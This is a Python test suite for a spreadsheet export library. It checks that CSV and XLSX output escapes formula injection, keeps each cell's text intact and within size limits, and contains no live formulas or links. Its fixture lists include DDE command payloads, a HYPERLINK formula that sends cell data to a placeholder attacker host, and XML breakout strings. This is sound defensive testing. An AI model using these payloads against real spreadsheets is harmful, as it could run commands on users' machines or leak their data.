"""Whatever somebody writes into a form, a spreadsheet shows it and runs nothing of it."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import tempfile
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from forecourt.exports import csv_rows
from forecourt.exports.guard import MOST_UNITS, cut, guarded, shown, unguarded
from forecourt.exports.table import Column
from forecourt.exports.xlsx_file import XlsxFile

if TYPE_CHECKING:
    from collections.abc import Sequence

    from forecourt.exports.table import Cell

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b+1",
    "'=1",
    "''=1",
    "\0=1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+61412345678",
    "-3",
    "@mia",
    "+" + "6" * 40_000,
)
ODD = (
    *FORMULAS,
    "",
    "'",
    "'s",
    '"',
    'a"b',
    "a,b",
    "a;=1",
    "a\tb",
    "one\r\ntwo\rthree\nfour",
    " around ",
    "naïve 東京 😀",
    "\x00\x01\x1f\x7f\x85",
    "\ufffe\uffff",
    "\ud800",
    "_x0041_ _x005F_",
    "<r><t>bold</t></r>",
    '<r></is></c><c r="A9"><f>1+1</f></c><c r="B9" t="inlineStr"><is></r>',
    "<r>",
    "]]>&amp;<!--",
    "=" * 40_000,
    "😀" * 20_000,
    "x" * 32_767,
    "x" * 32_768,
    "true",
    "1E5",
    "0412 345 678",
)
UNSEEN_IN_FRONT = (
    "".join(filter(str.isspace, map(chr, range(0x3001)))) + "\u200b\u200e\u200f\u2060\ufeff\u00ad"
)
COLUMNS = (Column("text"), Column("more"), Column("number"))

nasty = st.one_of(
    st.sampled_from(ODD),
    st.text(st.sampled_from("=+-@＝＋－＠'\"\t\r\n,; \0\x1f\ufeff\u200bax_0041<r>/")),
    st.text(),
    st.text(st.characters(codec=None, categories=("Cc", "Cf", "Cs", "Zs", "So", "Lu"))),
)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def as_csv(rows: Sequence[Sequence[Cell]]) -> bytes:
    return csv_rows.head(COLUMNS) + csv_rows.encoded(rows)


def as_xlsx(rows: Sequence[Sequence[Cell]], **how: Any) -> tuple[bytes, list[list[list[Any]]]]:
    """The workbook, and the cells of its sheets."""
    with tempfile.TemporaryDirectory() as folder:
        path, scratch = Path(folder) / "book.xlsx", Path(folder) / "scratch"
        file = XlsxFile(path, scratch, "rows", COLUMNS, **how)
        file.add(rows)
        file.finish()
        assert [one.name for one in Path(folder).iterdir()] == ["book.xlsx"]
        book = openpyxl.load_workbook(path)
        return path.read_bytes(), [[list(row) for row in sheet.iter_rows()] for sheet in book]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_has_an_apostrophe_in_front_and_is_quoted(text: str) -> None:
    line = csv_rows.encoded([[text]])

    assert re.match(rb'"\'+\s*', line), line[:20]
    [[cell]] = csv.reader(io.StringIO(line.decode(), newline=""))
    assert cell == cut("'" + shown(text))


def test_a_phone_number_keeps_its_plus_and_its_digits() -> None:
    assert csv_rows.encoded([["+61412345678"]]) == b'"\'+61412345678"\r\n'
    assert as_xlsx([["+61412345678"]])[1][0][1][0].value == "+61412345678"


@given(text=nasty)
@example("'=1")
@example("''\t")
def test_the_guard_can_be_taken_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text) in {text, "'" + text}
    # Whoever looks past what is not seen finds an apostrophe, or what begins no formula.
    seen = guarded(text).lstrip(UNSEEN_IN_FRONT)
    assert seen[:1] not in {*"=+-@＝＋－＠"}
    assert guarded(text)[:1] not in {*"\t\r\n"}


@given(text=nasty)
@example("😀" * 16_384)
@example("x" * 32_766 + "😀")
def test_a_cell_holds_what_fits_and_says_that_it_goes_on(text: str) -> None:
    fitting = cut(text)

    assert len(fitting.encode("utf-16-le", "surrogatepass")) // 2 <= MOST_UNITS
    if fitting != text:
        beginning, _, mark = fitting.rpartition("… [cut: ")
        assert mark == f"{len(text)} characters]"
        assert text.startswith(beginning)
        assert len(beginning) > 16_000


@settings(max_examples=200)
@given(rows=st.lists(st.tuples(nasty, nasty, st.integers(-9, 9)), max_size=4))
@example([(one, one, -1) for one in ODD])
def test_csv_reads_back_as_it_was_written(rows: list[tuple[str, str, int]]) -> None:
    content = as_csv(rows)

    assert content.endswith(b"\r\n")
    head, *read = read_csv(content)
    assert head == ["text", "more", "number"]
    assert read == [
        [cut(guarded(shown(one))), cut(guarded(shown(two))), str(number)] for one, two, number in rows
    ]
    for row in read:
        for cell in row[:2]:
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell)


@settings(max_examples=40, deadline=None)
@given(rows=st.lists(st.tuples(nasty, nasty, st.integers(-9, 9)), min_size=1, max_size=4))
@example([(one, one, -1) for one in ODD])
def test_a_workbook_reads_back_as_it_was_written_and_holds_no_formula(
    rows: list[tuple[str, str, int]],
) -> None:
    content, [[head, *read]] = as_xlsx(rows)

    assert [cell.value for cell in head] == ["text", "more", "number"]
    assert len(read) == len(rows)
    for cells, (one, two, number) in zip(read, rows, strict=True):
        assert [cell.data_type for cell in cells if cell.value is not None] == [
            "s" for text in (one, two) if shown(text)
        ] + ["n"]
        assert [unescape(cell.value or "") for cell in cells[:2]] == [cut(shown(one)), cut(shown(two))]
        assert cells[2].value == number
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "external" in name.lower()]
    assert not re.search(r"<f[ >/]|<hyperlink", sheet)


def test_what_looks_like_a_formula_stays_text_when_the_cell_is_edited() -> None:
    _, [[_, [formula, text, _]]] = as_xlsx([["=1+1", "1+1", 2]])

    assert formula.quotePrefix
    assert not text.quotePrefix


def test_numbers_dates_and_answers_are_what_they_are() -> None:
    brisbane = timezone(timedelta(hours=10))
    moment = datetime(2026, 11, 23, 9, 30, 15, 999_999, brisbane)
    row = (moment, date(1980, 2, 1), Decimal("1234.50"))
    other = (True, None, 2**60)
    third = ("", 1.5, datetime(1, 1, 1, tzinfo=UTC))

    assert as_csv([row, other, third]).split(b"\r\n")[1:] == [
        b"2026-11-23T09:30:15+10:00,1980-02-01,1234.50",
        b"true,,1152921504606846976",
        b'"",1.5,0001-01-01T00:00:00+00:00',
        b"",
    ]
    _, [[_, first, second, last]] = as_xlsx([row, other, third])
    assert [cell.value for cell in first] == [datetime(2026, 11, 23, 9, 30, 15), datetime(1980, 2, 1), 1234.5]  # noqa: DTZ001
    assert [cell.is_date for cell in first] == [True, True, False]
    assert [cell.number_format for cell in first] == ["yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd", "#,##0.00"]
    # An id with more digits than a cell can hold is text, to the last digit.
    assert [cell.value for cell in second] == [True, None, "1152921504606846976"]
    assert [cell.value for cell in last] == [None, 1.5, "0001-01-01 00:00:00"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_program_finds_no_formula_and_no_link(tmp_path: Path) -> None:
    rows = [(text, text, -1) for text in ODD]
    (tmp_path / "guarded.csv").write_bytes(as_csv(rows))
    (tmp_path / "book.xlsx").write_bytes(as_xlsx(rows)[0])
    # That it would find them where nobody guards.
    (tmp_path / "bare.csv").write_text("=1+1\n")
    separated = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1"
    found = {}
    for name, words in (("guarded.csv", [separated]), ("book.xlsx", []), ("bare.csv", [separated])):
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        line = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), *words]
        subprocess.run([*line, str(tmp_path / name)], capture_output=True, check=True, timeout=120)
        sheet = (tmp_path / name).with_suffix(".fods").read_text()
        found[name] = len(re.findall(r"table:formula=|<text:a ", sheet))

    assert found == {"guarded.csv": 0, "book.xlsx": 0, "bare.csv": 1}


def test_a_full_sheet_is_followed_by_another_with_its_own_head() -> None:
    content, sheets = as_xlsx([(str(number), "", number) for number in range(5)], most_rows=2)

    assert [[row[0].value for row in sheet] for sheet in sheets] == [
        ["text", "0", "1"],
        ["text", "2", "3"],
        ["text", "4"],
    ]
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["rows", "rows 2", "rows 3"]
    assert [sheet.auto_filter.ref for sheet in book] == ["A1:C3", "A1:C3", "A1:C2"]
    assert [sheet.freeze_panes for sheet in book] == ["A2"] * 3


def test_a_workbook_that_is_given_up_leaves_nothing_behind(tmp_path: Path) -> None:
    file = XlsxFile(tmp_path / "book.xlsx", tmp_path / "scratch", "rows", COLUMNS)
    file.add([("x" * 30_000, "", 1)] * 10)

    file.abandon()

    assert list(tmp_path.iterdir()) == []
